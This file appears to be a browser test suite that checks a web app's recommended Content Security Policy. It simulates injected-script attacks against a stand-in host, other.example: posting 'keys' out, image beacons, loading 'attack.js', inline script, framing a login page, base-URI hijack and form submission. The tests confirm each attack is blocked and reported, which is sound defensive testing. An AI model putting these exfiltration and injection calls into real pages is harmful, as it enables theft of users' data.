import { readFileSync } from 'node:fs';
import { worldOfSuite } from '../support/world.mjs';

const [, RECOMMENDED] = /```\n(default-src [^`]+)\n```/.exec(readFileSync('README.md', 'utf8'));
const OTHER = 'https://other.example';

/** What a script or markup that got in might try, and the report of it. */
const ATTEMPTS = {
  'send to another server': [
    (other) => fetch(`${other}/keys`, { method: 'POST' }).catch(() => undefined),
    `connect-src ${OTHER}/keys`,
  ],
  'send with a picture': [
    (other) => Object.assign(new Image(), { src: `${other}/keys.png` }),
    `img-src ${OTHER}/keys.png`,
  ],
  'load a script of another origin': [
    (other) => document.head.append(Object.assign(document.createElement('script'), { src: `${other}/attack.js` })),
    `script-src-elem ${OTHER}/attack.js`,
  ],
  'import a script of another origin': [
    (other) => import(`${other}/module.js`).catch(() => undefined),
    `script-src-elem ${OTHER}/module.js`,
  ],
  'run markup': [
    () => document.head.append(Object.assign(document.createElement('script'), { text: 'window.__ran = true' })),
    'script-src-elem inline',
  ],
  'run a handler in markup': [
    () => document.createElement('p').setAttribute('onclick', 'window.__ran = true'),
    'script-src-attr inline',
  ],
  'run a script of its own as a worker': [
    () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
    'worker-src blob',
  ],
  'embed another site': [
    (other) => document.body.append(Object.assign(document.createElement('iframe'), { src: `${other}/login` })),
    `frame-src ${OTHER}`,
  ],
  'move the page’s addresses': [
    (other) => document.head.append(Object.assign(document.createElement('base'), { href: `${other}/base/` })),
    `base-uri ${OTHER}/base/`,
  ],
  'send a form': [
    (other) => {
      const form = Object.assign(document.createElement('form'), { action: `${other}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
    `form-action ${OTHER}/form`,
  ],
};

describe('The recommended Content Security Policy', () => {
  const world = worldOfSuite({ violations: Object.values(ATTEMPTS).map(([, report]) => report) });

  /** The directives of the policy under which a page is served. */
  async function policyOf(url) {
    const page = await world.browser.newPage();
    const response = await page.goto(url);
    const header = response.headers()['content-security-policy'];
    await page.close();
    return header.split('; ').filter((directive) => !directive.startsWith('report-uri'));
  }

  it('is the one of the README on a page of one origin', async () => {
    expect(await policyOf(`http://localhost:${world.port}/embed.html`)).toEqual(RECOMMENDED.split(/;\n/));
  });

  for (const host of ['localhost', 'demo.jet.localhost']) {
    it(`is widened by addresses of the demo alone on its page at ${host}`, async () => {
      const names = ['localhost', '127.0.0.1', '*.jet.localhost'];
      const added = names.map((name) => ` http://${name}:${world.port}`).join('');
      const directives = await policyOf(`http://${host}:${world.port}/`);
      const own = directives.map((directive) => directive.replace(added, ''));

      expect(own).toEqual([...RECOMMENDED.split(/;\n/), "frame-src 'self'"]);
    });
  }

  it('stops what a script or markup that got in might try, and each attempt is reported', async () => {
    const romeo = await world.open('romeo');
    for (const [name, [attempt, report]] of Object.entries(ATTEMPTS)) {
      const reported = world.nextViolation();
      await romeo.page.evaluate(attempt, OTHER);

      expect(await reported)
        .withContext(name)
        .toBe(report);
    }

    expect(await romeo.page.evaluate(() => window.__ran)).toBeUndefined();
  });
});
